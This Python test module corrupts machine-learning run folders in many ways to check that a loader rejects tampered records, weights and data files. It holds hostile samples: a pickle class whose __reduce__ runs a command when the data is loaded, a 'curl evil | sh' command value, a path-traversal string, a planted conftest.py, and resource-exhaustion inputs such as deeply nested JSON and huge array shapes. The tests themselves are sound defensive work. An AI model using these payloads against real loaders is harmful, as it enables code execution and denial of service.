"""Damaged and hostile folders of runs: what is done to a sound one, and words of what must be said of it.

Where it can be, the checksums are made to fit (:func:`sign`): damage by chance is found by them, and what is to be
found here is what a program, or a person, has written on purpose.
"""

import hashlib
import json
import os
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from hypothesis import strategies as st
from safetensors.numpy import load_file, save_file

from tests.faults.documents import JUNK, places

__all__ = [
    "DAMAGES",
    "Damage",
    "change",
    "damages",
    "edit",
    "other_fields",
    "other_history",
    "other_weights",
    "sign",
]

RECORD, HISTORY, FIELDS, WEIGHTS = "run.json", "history.parquet", "fields.npz", "weights.safetensors"


def edit(folder: Path, changed: Callable[[dict], Any]) -> None:
    """Change the record, and make its checksums fit."""
    data = json.loads((folder / RECORD).read_text())
    changed(data)
    (folder / RECORD).write_text(json.dumps(data))
    sign(folder)


def sign(folder: Path) -> None:
    """Make the checksums, if there is a record that has them, those of what is there: a change, not a damage."""
    try:
        data = json.loads((folder / RECORD).read_text())
        files = {name: folder / name for name in data.get("sha256", {})}
    except (OSError, ValueError, AttributeError, TypeError, RecursionError):
        return
    if not files:
        return
    data["sha256"] = {n: hashlib.sha256(p.read_bytes()).hexdigest() for n, p in files.items() if p.is_file()}
    rest = {key: value for key, value in data.items() if key != "checksum"}
    data["checksum"] = hashlib.sha256(json.dumps(rest, sort_keys=True).encode()).hexdigest()
    (folder / RECORD).write_text(json.dumps(data))


def other_weights(folder: Path) -> None:
    """All parameters larger by one."""
    path = folder / WEIGHTS
    save_file({name: array + np.float32(1) for name, array in load_file(path).items()}, path)


def other_history(folder: Path) -> None:
    """Errors twice as large."""
    history = pd.read_parquet(folder / HISTORY)
    history.assign(rel_l2=history.rel_l2 * 2).to_parquet(folder / HISTORY, index=False)


def other_fields(folder: Path) -> None:
    """All fields larger by one."""
    fields(folder, lambda found: {name: array + 1 for name, array in found.items()})


@dataclass(frozen=True)
class Damage:
    """What is done to a run's folder, and what must be said; whether checksums are made to fit behind it."""

    do: Callable[[Path], Any]
    words: str = ""
    signed: bool = True

    def __call__(self, folder: Path) -> None:
        """Do it."""
        self.do(folder)
        if self.signed:
            sign(folder)


class Bomb:
    """What a pickle could do when it is read."""

    def __reduce__(self) -> tuple[Callable, tuple[str]]:
        return os.mkdir, ("pwned",)


def link(folder: Path) -> None:
    (folder / RECORD).rename(folder.parent / "elsewhere.json")
    (folder / RECORD).symlink_to(folder.parent / "elsewhere.json")


def in_place(name: str, make: Callable[[Path], Any]) -> Callable[[Path], None]:
    """Something else in the place of a file."""

    def do(folder: Path) -> None:
        (folder / name).unlink()
        make(folder / name)

    return do


def content(name: str, new: bytes | str) -> Callable[[Path], Any]:
    return in_place(name, lambda path: path.write_bytes(new if isinstance(new, bytes) else new.encode()))


def history(folder: Path, changed: Callable[[pd.DataFrame], pd.DataFrame]) -> None:
    changed(pd.read_parquet(folder / HISTORY)).to_parquet(folder / HISTORY, index=False)


def metadata(text: bytes) -> Callable[[Path], None]:
    """Words of the file about pandas that are not pandas'."""

    def do(folder: Path) -> None:
        table = pq.read_table(folder / HISTORY)
        pq.write_table(table.replace_schema_metadata({b"pandas": text}), folder / HISTORY)

    return do


def fields(folder: Path, changed: Callable[[dict], dict]) -> None:
    with np.load(folder / FIELDS) as found:
        arrays = changed(dict(found))
    np.savez_compressed(folder / FIELDS, **arrays)


def plain_array(folder: Path) -> None:
    np.save(folder / "array.npy", np.zeros(3))
    (folder / "array.npy").rename(folder / FIELDS)


def header(shape: str, dtype: str = "<f8") -> Callable[[Path], None]:
    """An array that its header says is of another shape than its data."""
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    start = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()

    def do(folder: Path) -> None:
        with zipfile.ZipFile(folder / FIELDS, "w") as file:
            file.writestr("exact.npy", start + bytes(64))

    return do


def broken_deflate(folder: Path) -> None:
    with zipfile.ZipFile(folder / FIELDS) as file:
        first = file.infolist()[0]
    with (folder / FIELDS).open("r+b") as stream:
        stream.seek(first.header_offset + 30 + len(first.filename) + 20)
        stream.write(b"\xff" * 12)


def encrypted(folder: Path) -> None:
    """The flag of encryption, in the directory at the end of the archive."""
    found = (folder / FIELDS).read_bytes()
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = found.index(mark) + offset
        found = found[:place] + bytes([found[place] | 1]) + found[place + 1 :]
    (folder / FIELDS).write_bytes(found)


def weights(folder: Path, changed: Callable[[dict], dict]) -> None:
    save_file(changed(load_file(folder / WEIGHTS)), folder / WEIGHTS)


def typed(kind: str, count: int = 2) -> bytes:
    """Weights of a type that NumPy has no word for, or that is none."""
    head = json.dumps({"last/layer0.bias": {"dtype": kind, "shape": [4], "data_offsets": [0, 4 * count]}})
    return struct.pack("<Q", len(head)) + head.encode() + bytes(4 * count)


def change(path: tuple[str | int, ...], value: Any) -> Callable[[Path], None]:
    """Another value at a place of the record."""

    def changed(data: dict) -> None:
        *outer, last = path
        inner: Any = data
        for part in outer:
            inner = inner[part]
        inner[last] = value

    return lambda folder: edit(folder, changed)


def renamed(folder: Path) -> None:
    history(folder, lambda found: found.rename(columns={"rel_l2": "error"}))


NUMBERS: list[tuple[tuple[str | int, ...], list[Any]]] = [
    (("iterations",), [-1, 1.5, "12", None, True, 10**30]),
    (("function_evaluations",), [-1, "many"]),
    (("gradient_evaluations",), [-1]),
    (("parameters",), [-1, [3]]),
    (("peak_memory_bytes",), [-1, 2**70]),
    (("seconds", "training"), [-1.0, "1", None, 1e300]),
    (("seconds", "startup"), [-3600.0]),
    (("cpu_seconds", "training"), [-0.5]),
    (("stages", 0, "seconds"), [-1.0, "soon"]),
    (("stages", 0, "iterations"), [-5, "5"]),
    (("stages", 0, "level"), [7, -1]),
    (("stages", 0, "optimizer"), ["sgd", "adam;adam"]),
    (("stages", 0, "reason"), ["because"]),
    (("last", "rel_l2"), [-1.0, "1e-3"]),
    (("last", "iteration"), [-1]),
    (("best", "maximum"), [-1e-3]),
    (("terms",), [{"other": 1.0}]),
    (("status",), ["perfect", None]),
    (("schema_version",), [0, 99, "3", None]),
    (("spec", "levels"), [[], None]),
    (("spec", "network"), [{"name": "nothing"}, None]),
    (("provenance", "machine"), [None]),
    (("reason",), [None, 3]),
    (("unknown",), [1]),
]
JSONS = {
    "[]": "[]", "null": "null", "empty": "", "brace": "{",
    "deep lists": "[" * 200_000, "deep maps": '{"a":' * 200_000,
    "closed deep": "[" * 900 + "]" * 900, "not UTF-8": b"\xff\xfe{}", "NaN": '{"schema_version": NaN}',
    "digits": '{"schema_version": ' + "9" * 5000 + "}", "surrogate": '{"schema_version": 3, "status": "\\ud800"}',
}  # fmt: skip
COLUMNS: dict[str, Callable[[pd.DataFrame], pd.DataFrame]] = {
    "no rel_l2": lambda found: found.drop(columns="rel_l2"),
    "no columns": lambda found: found[[]],
    "another": lambda found: found.assign(other=1),
    "texts": lambda found: found.assign(rel_l2="small"),
    "text counts": lambda found: found.assign(iteration=found.iteration.astype(str)),
    "lists": lambda found: found.assign(objective=[[1.0]] * len(found)),
    "negative": lambda found: found.assign(iteration=-found.iteration - 1),
    "negative seconds": lambda found: found.assign(seconds=found.seconds - 1e6),
    "no seconds": lambda found: found.assign(seconds=np.nan),
    "negative error": lambda found: found.assign(rel_l2=-1.0),
    "backwards": lambda found: found[::-1],
    "level 9": lambda found: found.assign(level=9),
    "gap": lambda found: found.assign(iteration=found.iteration.where(found.iteration > 0)),
    "dates": lambda found: found.assign(seconds=pd.Timestamp("2024-01-01")),
    "optimizer 3": lambda found: found.assign(optimizer=3),
    "too many": lambda found: found.assign(iteration=found.iteration + 10**9),
}
FIELD = {
    "no predicted": lambda found: {k: v for k, v in found.items() if k != "predicted"},
    "no coordinate": lambda found: {k: found[k] for k in ("exact", "predicted")},
    "nothing": lambda _: {},
    "transposed": lambda found: found | {"predicted": found["predicted"].ravel()},
    "thinned": lambda found: {k: v[(slice(None, None, 2),) * v.ndim] for k, v in found.items()},
    "integers": lambda found: found | {"exact": found["exact"].astype(int)},
    "complex": lambda found: found | {"exact": found["exact"] + 1j},
    "texts": lambda found: found | {"exact": np.array(["a"])},
    "scalar": lambda found: found | {"exact": np.array(1.0)},
    "hundreds": lambda found: found | {f"a{i}": np.zeros(1) for i in range(200)},
}
WEIGHT = {
    "flat": lambda found: {k: v.ravel() for k, v in found.items()},
    "one missing": lambda found: dict(list(found.items())[1:]),
    "one more": lambda found: found | {"last/other": np.zeros(3, "float32")},
    "none": lambda _: {},
    "integers": lambda found: {k: v.astype("int32") for k, v in found.items()},
}
ROWS = pa.table({"a": pa.nulls(10)})


def _hand_made() -> Iterator[tuple[str, Damage]]:
    for text in JSONS:
        yield f"{RECORD} {text}", Damage(content(RECORD, JSONS[text]), "run.json: ")
    for path, values in NUMBERS:
        for value in values:
            name = ".".join(map(str, path))
            yield f"{RECORD} {name} {value!r:.40}", Damage(change(path, value), "run.json: ")
    yield "another seed", Damage(change(("spec", "seed"), 7), "is the record of")
    yield "a path as a method", Damage(change(("spec", "method"), "../../../../../x"), "not a run of schema")
    yield "another width", Damage(change(("spec", "network", "width"), 7), "its hash is not")
    for name in (HISTORY, FIELDS, WEIGHTS):
        yield f"{name} missing", Damage(lambda f, name=name: (f / name).unlink(), f"{name}: is missing")
        yield f"{name} a folder", Damage(in_place(name, Path.mkdir), f"{name}: is missing, or is no plain file")
        yield f"{name} a pipe", Damage(in_place(name, os.mkfifo), f"{name}: is missing, or is no plain file")
        yield f"{name} empty", Damage(content(name, b""), "readable")
        yield f"{name} a pickle", Damage(content(name, pickle.dumps(Bomb())), "readable")
    yield "a link", Damage(link, "is no plain file")
    device = in_place(RECORD, lambda path: path.symlink_to("/dev/zero"))
    yield "a device", Damage(device, "is no plain file", signed=False)
    for text, columns in COLUMNS.items():
        yield f"history {text}", Damage(lambda f, c=columns: history(f, c), HISTORY)
    yield "history renamed", Damage(renamed, "must have")
    # What the file says of pandas changes nothing: this is no damage.
    yield "pandas metadata a list", Damage(metadata(b"[1]"))
    yield "pandas metadata of an index", Damage(metadata(b'{"index_columns": ["rel_l2"], "columns": []}'))
    yield "pandas metadata binary", Damage(metadata(b"\xff\xfe"))
    yield "history of nulls", Damage(lambda f: pq.write_table(ROWS, f / HISTORY), "must have")
    for text, array in FIELD.items():
        yield f"fields {text}", Damage(lambda f, a=array: fields(f, a), FIELDS)
    bomb = np.array([Bomb()], dtype=object)
    yield "objects", Damage(lambda f: np.savez(f / FIELDS, exact=bomb), "not readable fields")
    yield "a plain array", Damage(plain_array, "not readable fields")
    yield "broken deflate", Damage(broken_deflate, "not readable fields")
    yield "encrypted", Damage(encrypted, "not readable fields")
    for shape in ("(1000000000000,)", "(1000000, 1000000)", "(-1,)", "(2, 'a')"):
        yield f"shape {shape[:20]}", Damage(header(shape), "not readable fields")
    yield "a shape in brackets", Damage(header("(" * 90 + ")" * 90), "must have")
    yield "a type of 2^31 bytes", Damage(header("(1,)", "|V2147483647"), "not readable fields")
    for text, array in WEIGHT.items():
        yield f"weights {text}", Damage(lambda f, a=array: weights(f, a), WEIGHTS)
    for kind in ("BF16", "F8_E4M3", "X9", "I64"):
        yield f"weights {kind}", Damage(content(WEIGHTS, typed(kind)), "not readable weights")
    yield "weights of a long head", Damage(content(WEIGHTS, struct.pack("<Q", 2**60) + b"{}"), "not readable")
    yield "a script beside", Damage(lambda f: (f / "conftest.py").write_text("raise SystemExit"))
    yield "another command", Damage(change(("command",), "curl evil | sh"))


DAMAGES: dict[str, Damage] = dict(_hand_made())
"""By name; those without words are not damaged, and must change nothing."""


@st.composite
def damages(draw: st.DrawFn, record: dict) -> tuple[str, Damage]:
    """One drawn at random: bytes of a file turned, cut out or put in, or junk at a place of ``record``."""
    way = draw(st.sampled_from(["turn", "cut", "put", "junk", "junk", "swap"]))
    if way == "junk":
        path = draw(st.sampled_from([path for path in places(record) if path[0] not in ("sha256", "checksum")]))
        value = draw(st.sampled_from(JUNK))
        return f"junk at {'.'.join(map(str, path))}: {value!r:.30}", Damage(change(path, value))
    name, other = (draw(st.sampled_from([RECORD, HISTORY, FIELDS, WEIGHTS])) for _ in range(2))
    part, signed = draw(st.floats(0, 1)), draw(st.booleans())
    some = draw(st.binary(min_size=1, max_size=8))

    def do(folder: Path) -> None:
        found = (folder / name).read_bytes()
        place = int(part * (len(found) - 1))
        rest = {"turn": found[place + 1 :], "cut": b"", "put": found[place:]}
        if way == "swap":
            shutil.copyfile(folder / other, folder / name) if name != other else None
            return
        middle = {"turn": bytes([found[place] ^ (some[0] | 1)]), "cut": b"", "put": some}[way]
        (folder / name).write_bytes(found[:place] + middle + rest[way])

    return f"{way} {name} at {part:.3f}{' signed' if signed else ''}", Damage(do, signed=signed)
